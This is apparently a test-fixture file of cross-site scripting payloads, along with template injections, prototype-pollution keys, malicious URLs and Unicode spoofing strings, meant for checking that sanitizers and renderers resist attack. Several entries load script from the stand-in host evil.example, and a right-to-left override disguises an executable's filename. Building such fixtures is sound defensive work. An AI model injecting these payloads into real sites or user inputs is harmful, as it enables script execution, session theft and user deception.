// Texts that run a script where somebody takes them for markup, an address, a template or a
// style. Each calls `pwned()`: a page in which one ran can be told.

const call = 'globalThis.pwned=1';

const elements = [
  `<img src=x onerror=${call}>`,
  `<img src="x:x" onerror="${call}">`,
  `<svg onload=${call}>`,
  `<svg/onload="${call}"/>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x"/>`,
  `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
  `<script>${call}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<a href="javascript:${call}" autofocus onfocus="${call}">free data</a>`,
  `<a href="java&#x09;script:${call}">free data</a>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<keygen autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`,
  `<div onpointerover=${call} style=position:fixed;inset:0>`,
  `<div style="background:url(javascript:${call})">`,
  `<div style="width:expression(${call})">`,
  `<style>@import'//evil.example/x.css';*{background:url(//evil.example/y)}</style>`,
  `<style onload=${call}></style>`,
  `<link rel=stylesheet href=//evil.example/x.css onerror=${call}>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<form action="javascript:${call}"><button autofocus>win</button></form>`,
  `<button formaction="javascript:${call}">win</button>`,
  `<dialog open onclose=${call}><form method=dialog><button>ok</button></form></dialog>`,
  `<div popover id=p onbeforetoggle=${call}></div><button popovertarget=p>win</button>`,
  `<x contenteditable onblur=${call}>edit me</x>`,
  `<table background="javascript:${call}"><td>`,
];

/** Harmless for one parser, not for the next. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<template><img src=x onerror=${call}></template>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${call}</html:script>`,
  `<a id=app></a><a id=app name=body></a><form id=document><input name=getElementById>`,
];

/** Out of an attribute, an element, a comment or a string. */
const breakouts = [
  `"><img src=x onerror=${call}>`,
  `'><svg onload=${call}>`,
  `" autofocus onfocus="${call}`,
  `' onpointerenter='${call}`,
  `</textarea><img src=x onerror=${call}>`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `';${call};//`,
  `";${call};//`,
  `\`;${call};//`,
  `\\";${call};//`,
  `\u2028${call}\u2029`,
];

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `javascript://example.org/%0A${call}`,
  `javascript:${call}//https://example.org`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
  `vbscript:${call}`,
  `blob:https://example.org/${call}`,
  `filesystem:https://example.org/x`,
  `view-source:javascript:${call}`,
  `https://example.org/"onmouseover="${call}`,
  `https://example.org/'><img src=x onerror=${call}>`,
  `https://user:pass@evil.example/`,
  `https://example.org\\@evil.example/`,
  `https://еxample.org/`,
  `http://2130706433/`,
];

const markdown = [
  `[free data](javascript:${call})`,
  `[free data](data:text/html,<script>${call}</script>)`,
  `![picture](x"onerror="${call})`,
  `![picture](//evil.example/x.png)`,
  `<javascript:${call}>`,
  `[x]: javascript:${call}\n[x]`,
  `**<img src=x onerror=${call}>**`,
  `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
  `> <svg onload=${call}>`,
  `<details markdown=1><summary><svg onload=${call}></summary>`,
];

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `{{$on.constructor('${call}')()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `{count, plural, one {<img src=x onerror=${call}>} other {#}}`,
  `{name} {text} {0}`,
  `$& $1 $\` $'`,
  `__proto__[pwned]=1`,
];

/** One more layer in front of the same thing. */
const disguises: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) =>
    payload.replaceAll(
      /<(\/?)([a-z]+)/gi,
      (_, slash: string, tag: string) => `<${slash}${tag.toUpperCase()}`,
    ),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll('"', '%22'),
  (payload) => payload.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (payload) => payload.replaceAll(/<([a-z]+)/gi, '<\u0000$1').replaceAll(' on', '\fon'),
  (payload) => `\u202e${payload}\u202c\u200b`,
  (payload) => `Look at this: ${payload} — what do you think?`,
];

const base = [...elements, ...mutations, ...breakouts, ...addresses, ...markdown, ...templates];

/** No two alike. */
export const payloads: readonly string[] = [
  ...new Set(base.flatMap((payload) => disguises.map((disguise) => disguise(payload)))),
];

/** Names are short. */
export const namePayloads: readonly string[] = [
  ...base.filter((payload) => payload.length <= 64 && !/[\n\t\u0000-\u001f]/.test(payload)),
  'Ganira\u202egnp.exe',
  '\u202e\u2066Aline\u2069',
  `A${'\u0301'.repeat(60)}`,
  '__proto__',
  'constructor',
  '￼\u3164',
];

/** Texts that break a layout or a reader rather than a parser. */
export const awkwardTexts: readonly string[] = [
  `Z${'\u0300\u0336\u0489'.repeat(4_000)}algo`,
  'W'.repeat(10_000),
  '\u202e\u2067'.repeat(200) + 'turned',
  '👩🏾‍🌾'.repeat(500),
  '\n'.repeat(400) + 'after 400 lines',
  'מימין לשמאל and left to right مرحبا',
];
